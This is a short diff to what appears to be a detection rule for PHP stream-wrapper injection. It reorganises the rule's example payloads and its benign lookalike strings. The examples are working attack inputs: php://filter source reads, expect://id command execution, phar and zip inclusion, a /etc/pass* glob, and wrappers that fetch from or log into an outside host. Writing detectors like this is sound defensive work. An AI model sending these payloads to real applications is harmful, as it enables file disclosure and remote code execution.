@@ -28,22 +28,15 @@ export const streamWrapper: ValueRule = {
       return target.includes('resource=') ? confidence.likely : confidence.trace;
     }),
   examples: [
-    'php://filter/convert.base64-encode/resource=index.php',
-    'php://input',
-    'expect://id',
-    '/view?page=zip://uploads/a.zip%23x.php',
-    'phar://avatar.jpg/x.php',
-    'compress.zlib://http://203.0.113.5/x.txt',
-    'ssh2.sftp://user:pass@203.0.113.5/etc/hosts',
-    'glob:///etc/pass*',
-    { body: { page: 'glob://*.php' } },
+    ...['php://filter/convert.base64-encode/resource=index.php', 'php://input', 'expect://id'],
+    ...['/view?page=zip://uploads/a.zip%23x.php', 'phar://avatar.jpg/x.php', 'glob:///etc/pass*'],
+    ...['compress.zlib://http://203.0.113.5/x.txt', 'ssh2.sftp://user:pass@203.0.113.5/etc/hosts'],
     '<svg><image xlink:href="expect://id"/></svg>',
+    { body: { page: 'glob://*.php' } },
   ],
   lookalikes: [
-    'In PHP read the raw body from php://input, then decode it.',
-    'What to expect: //TODO',
-    'Zip: //unknown',
-    'the wrapper "phar://" is described in the manual',
+    ...['In PHP read the raw body from php://input, then decode it.', 'What to expect: //TODO'],
+    ...['Zip: //unknown', 'the wrapper "phar://" is described in the manual'],
     'the zip:// and phar:// wrappers are described in the manual',
   ],
 };
